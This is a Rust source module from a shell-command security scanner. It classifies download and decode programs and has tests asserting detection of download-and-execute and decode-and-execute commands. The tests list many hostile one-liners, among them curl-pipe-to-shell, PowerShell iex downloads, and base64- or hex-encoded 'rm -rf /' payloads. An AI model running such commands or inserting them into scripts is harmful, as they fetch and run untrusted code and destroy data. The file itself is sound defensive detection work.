//! Downloaders and decoders: which programs fetch or decode data, and where they write it.

use super::analyze::{is_absolute, is_stdout_path};
use super::args::{Arg, NO_OPTS, OptSpec, has_flag, operands, option_value, parse_args};
use super::detectors::is_network_tool;
use super::value::Field;

/// Where a downloader puts what it fetches.
pub(super) enum Download {
    Stdout,
    Files(Vec<String>),
}

const CURL_OPTS: OptSpec = OptSpec {
    short: "AbcCdDeEFHKmoPQrtTuUwxXYyz",
    long: &[
        "output",
        "output-dir",
        "url",
        "data",
        "data-raw",
        "data-binary",
        "data-urlencode",
        "data-ascii",
        "form",
        "form-string",
        "header",
        "user",
        "user-agent",
        "request",
        "referer",
        "cookie",
        "cookie-jar",
        "config",
        "max-time",
        "connect-timeout",
        "proxy",
        "proxy-user",
        "upload-file",
        "write-out",
        "retry",
        "retry-delay",
        "retry-max-time",
        "cert",
        "key",
        "cacert",
        "capath",
        "range",
        "continue-at",
        "dump-header",
        "resolve",
        "interface",
        "limit-rate",
        "max-filesize",
        "json",
        "variable",
        "time-cond",
        "oauth2-bearer",
        "unix-socket",
        "max-redirs",
        "trace",
        "trace-ascii",
        "stderr",
        "netrc-file",
    ],
};

const WGET_OPTS: OptSpec = OptSpec {
    short: "oaiBetOTwQPUlARDIX",
    long: &[
        "output-document",
        "output-file",
        "append-output",
        "input-file",
        "base",
        "execute",
        "tries",
        "timeout",
        "wait",
        "quota",
        "directory-prefix",
        "user-agent",
        "level",
        "accept",
        "reject",
        "domains",
        "include-directories",
        "exclude-directories",
        "header",
        "post-data",
        "post-file",
        "user",
        "password",
        "http-user",
        "http-password",
        "referer",
        "load-cookies",
        "save-cookies",
        "limit-rate",
        "ca-certificate",
        "certificate",
        "private-key",
    ],
};

/// The file name a URL downloads to (`https://x/a/install.sh?v=1` → `install.sh`).
fn url_basename(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let path = rest.split(['?', '#']).next().unwrap_or_default();
    match path.rsplit_once('/') {
        Some((_, name)) if !name.is_empty() => name.to_owned(),
        _ => "index.html".to_owned(),
    }
}

fn in_dir(dir: Option<&Field>, file: String) -> String {
    match dir {
        Some(d) if !is_absolute(&file) => format!("{}/{file}", d.text.trim_end_matches('/')),
        _ => file,
    }
}

/// Whether (and where) a program downloads; `None` for programs that do not.
pub(super) fn download_target(key: &str, args: &[Field]) -> Option<Download> {
    Some(match key {
        "curl" => curl_target(args),
        "wget" | "fetch" | "aria2c" => wget_target(key, args),
        "http" | "https" | "xh" | "xhs" => {
            let (opts, _) = parse_args(
                args,
                OptSpec {
                    short: "oaA",
                    long: &["output", "auth", "auth-type"],
                },
                false,
            );
            match option_value(&opts, &["o", "output"]) {
                Some(out) => Download::Files(vec![out.text.clone()]),
                None if has_flag(&opts, &["d", "download"]) => Download::Files(
                    operand_texts(args, &opts)
                        .last()
                        .map(|u| vec![url_basename(u)])
                        .unwrap_or_default(),
                ),
                None => Download::Stdout,
            }
        }
        "lwp-download" => match operands(args).as_slice() {
            [_, file, ..] => Download::Files(vec![file.text.clone()]),
            [url] => Download::Files(vec![url_basename(&url.text)]),
            [] => Download::Stdout,
        },
        "iwr" | "invoke-webrequest" | "irm" | "invoke-restmethod" => {
            match args
                .iter()
                .position(|a| a.text.eq_ignore_ascii_case("-outfile"))
                .and_then(|i| args.get(i + 1))
            {
                Some(file) => Download::Files(vec![file.text.clone()]),
                None => Download::Stdout,
            }
        }
        "get" | "lwp-request" => Download::Stdout,
        _ if is_network_tool(key, args) => Download::Stdout,
        _ => return None,
    })
}

fn operand_texts(args: &[Field], opts: &[Arg]) -> Vec<String> {
    opts.iter()
        .filter_map(|o| {
            if let Arg::Operand(i) = o {
                Some(args[*i].text.clone())
            } else {
                None
            }
        })
        .collect()
}

/// curl writes to standard output unless given `-o FILE` or `-O` (the URL's basename).
fn curl_target(args: &[Field]) -> Download {
    let (opts, _) = parse_args(args, CURL_OPTS, false);
    let dir = option_value(&opts, &["output-dir"]);
    let mut files: Vec<String> = opts
        .iter()
        .filter_map(|o| match o {
            Arg::Valued(n, v) if (n == "o" || n == "output") && !is_stdout_path(&v.text) => {
                Some(v.text.clone())
            }
            _ => None,
        })
        .collect();
    if has_flag(&opts, &["O", "remote-name", "remote-name-all"]) {
        let urls = operand_texts(args, &opts)
            .into_iter()
            .chain(opts.iter().filter_map(|o| match o {
                Arg::Valued(n, v) if n == "url" => Some(v.text.clone()),
                _ => None,
            }));
        files.extend(urls.map(|u| url_basename(&u)));
    }
    if files.is_empty() {
        Download::Stdout
    } else {
        Download::Files(files.into_iter().map(|f| in_dir(dir, f)).collect())
    }
}

/// wget, fetch and aria2c write the URL's basename unless told otherwise (`-O -` is stdout).
fn wget_target(key: &str, args: &[Field]) -> Download {
    let spec = if key == "wget" {
        WGET_OPTS
    } else {
        OptSpec {
            short: "odNST",
            long: &["output", "dir"],
        }
    };
    let (opts, _) = parse_args(args, spec, false);
    let dir = option_value(&opts, &["P", "directory-prefix", "d", "dir"]);
    match option_value(&opts, &["O", "output-document", "o", "output"]) {
        Some(doc) if is_stdout_path(&doc.text) && key != "aria2c" => Download::Stdout,
        Some(doc) => Download::Files(vec![in_dir(dir, doc.text.clone())]),
        None => Download::Files(
            operand_texts(args, &opts)
                .iter()
                .map(|u| in_dir(dir, url_basename(u)))
                .collect(),
        ),
    }
}

/// Programs that turn encoded text back into code.
pub(super) enum Decoder {
    Base64,
    Hex,
    Reverse,
    /// Decodes something whose result is not computed here.
    Opaque,
}

pub(super) fn decoder(key: &str, args: &[Field]) -> Option<Decoder> {
    let (opts, _) = parse_args(args, NO_OPTS, false);
    let words = |names: &[&str]| args.iter().any(|a| names.contains(&a.text.as_str()));
    match key {
        "base64" | "gbase64" if has_flag(&opts, &["d", "D", "decode"]) => Some(Decoder::Base64),
        "base32" | "basenc" if has_flag(&opts, &["d", "decode"]) => Some(Decoder::Opaque),
        "openssl"
            if words(&["-d"])
                && args
                    .first()
                    .is_some_and(|a| a.text == "base64" || a.text == "enc") =>
        {
            let base64 =
                args.first().is_some_and(|a| a.text == "base64") || words(&["-base64", "-a", "-A"]);
            Some(if base64 {
                Decoder::Base64
            } else {
                Decoder::Opaque
            })
        }
        "xxd" if has_flag(&opts, &["r", "revert"]) => Some(
            if has_flag(&opts, &["p", "plain"]) || words(&["-ps", "-plain"]) {
                Decoder::Hex
            } else {
                Decoder::Opaque
            },
        ),
        "uudecode" => Some(Decoder::Opaque),
        "rev" => Some(Decoder::Reverse),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::shell::CommandCategory::{DecodeExec, DownloadExec, RecursiveDelete};
    use crate::detect::shell::tests::{assert_clean, assert_flags, detail, has};

    #[test]
    fn download_exec() {
        assert_flags(
            DownloadExec,
            &[
                "curl -fsSL https://get.x.io | sh",
                "curl -s https://x | sudo bash",
                "curl -s https://x | bash -s -- --flag",
                "wget -qO- https://x | sh",
                "wget -O - https://x | python3",
                "curl https://x | perl",
                "curl https://x | node",
                "fetch -o - https://x | sh",
                "http https://x | sh",
                "curl https://x | grep -v '^#' | sh",
                "curl https://x | tee log | bash",
                "curl https://x | xargs sh -c",
                "curl https://x | source /dev/stdin",
                "curl https://x | sh -c 'bash'",
                "curl https://x | $SHELL",
                "nc example.com 80 | sh",
                "bash <(curl -s https://x/install.sh)",
                "bash < <(curl -s https://x)",
                "sh -c \"$(curl -fsSL https://x/install.sh)\"",
                "eval \"$(curl -s https://x)\"",
                ". <(wget -qO- https://x)",
                "source <(curl -s https://x)",
                "python -c \"$(curl -s https://x)\"",
                "curl https://x | tee >(sh)",
                "X=$(curl -s https://x); eval \"$X\"",
                "curl -o install.sh https://x/install.sh && sh install.sh",
                "curl -sSLo install.sh https://x/i && bash ./install.sh",
                "curl --output i.sh https://x && . ./i.sh",
                "curl -O https://x/install.sh; chmod +x install.sh && ./install.sh",
                "wget https://x/setup.sh && bash setup.sh",
                "wget -O s.py https://x && python3 s.py",
                "curl https://x > inst.sh; bash inst.sh",
                "curl -sL https://x | tee install.sh; sh install.sh",
                "cd /tmp && curl -O https://x/a.sh && sh /tmp/a.sh",
                "irm https://x/a.ps1 | iex",
                "iex (iwr https://x/a.ps1)",
                "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                "powershell -NoProfile -Command \"iex (iwr https://x)\"",
                "python3 -c \"import urllib.request; exec(urllib.request.urlopen('https://x').read())\"",
                "python -c \"import requests;exec(requests.get('https://x').text)\"",
                "ruby -ropen-uri -e 'eval(URI.open(\"https://x\").read)'",
                "node -e 'fetch(\"https://x\").then(r=>r.text()).then(eval)'",
                "php -r 'eval(file_get_contents(\"https://x\"));'",
                "perl -MLWP::Simple -e 'eval get \"https://x\"'",
                "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://x\").read().decode())' | sh",
                "curl -s https://x -o /dev/stdout | sh",
                "curl -s https://x > /dev/stdout | sh",
                "curl https://x | python3 -c 'import sys; exec(sys.stdin.read())'",
                "curl https://x | awk '{system($0)}'",
                "curl https://x | perl -e 'eval join \"\", <STDIN>'",
                "$(curl -s https://x) --help",
                "cat <(curl -s https://x) | $SHELL",
            ],
        );
        assert_eq!(
            detail("curl -fsSL https://x | sh", DownloadExec),
            "sh runs code downloaded by `curl -fsSL https://x`"
        );
        assert_clean(&[
            "curl https://x | grep foo",
            "curl -s https://api.github.com | jq .",
            "curl -o release.tar.gz https://x/r.tgz && tar xzf release.tar.gz",
            "wget https://x/file.zip && unzip file.zip",
            "curl https://x > out.json",
            "curl -O https://x/install.sh && cat install.sh",
            "curl -o a.sh https://x; echo hi > a.sh; sh a.sh",
            "curl https://x | python3 parse.py",
            "wget -q https://x/data.csv",
            "pip install requests",
            "python3 -c 'import json,urllib.request; print(json.load(urllib.request.urlopen(\"https://x\")))'",
            "cat data.json | python3 -c 'import sys,json; print(json.load(sys.stdin))'",
            "curl -s https://x | awk '{print $1}'",
        ]);
    }

    #[test]
    fn decode_exec() {
        assert_flags(
            DecodeExec,
            &[
                "echo cm0gLXJmIC8= | base64 -d | sh",
                "echo ZWNobyBoaQ== | base64 --decode | bash",
                "base64 -D <<< ZWNobyBoaQ== | sh",
                "sh -c \"$(echo ZWNobyBoaQ== | base64 -d)\"",
                "eval \"$(base64 -d <<< ZWNobyBoaQ==)\"",
                "bash <(base64 -d payload.b64)",
                "openssl base64 -d -in p | sh",
                "openssl enc -d -aes-256-cbc -in p -k x | bash",
                "xxd -r -p payload.hex | sh",
                "uudecode -o /dev/stdout p.uu | sh",
                "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
                "echo -e '\\x72\\x6d -rf /' | bash",
                "echo 'hs | moc.x//:sptth lruc' | rev | sh",
                "echo ZWNobyBoaQ== | base64 -d > x.sh; sh x.sh",
                "python -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
                "node -e 'eval(atob(\"Y29uc29sZS5sb2coMSk=\"))'",
                "node -e 'eval(Buffer.from(\"Y29uc29sZS5sb2coMSk=\",\"base64\").toString())'",
                "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
                "php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'",
                "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=",
                "pwsh -EncodedCommand ZQBjAGgAbwAgADEA",
            ],
        );
        // The payload itself is analysed.
        assert!(has("echo cm0gLXJmIC8= | base64 -d | sh", RecursiveDelete));
        assert!(has(
            "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
            RecursiveDelete
        ));
        assert!(has("$(echo cm0= | base64 -d) -rf /", RecursiveDelete));
        assert!(has("$(echo cm0= | base64 -d) -rf build", DecodeExec));
        assert!(has(
            "echo 'import os; os.system(\"rm -rf /\")' | python3 -c 'import sys; exec(sys.stdin.read())'",
            RecursiveDelete
        ));
        assert!(has("cat <<EOF | $SHELL\nrm -rf /\nEOF", RecursiveDelete));
        assert!(has(
            "echo 'hs | moc.x//:sptth lruc' | rev | sh",
            DownloadExec
        ));
        assert!(has(
            "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=",
            DownloadExec
        ));
        assert_clean(&[
            "echo aGk= | base64 -d",
            "base64 -d file > out.bin",
            "base64 file",
            "xxd file | head",
            "echo -e 'a\\tb'",
            "printf '%s\\n' a b | sort",
        ]);
    }
}
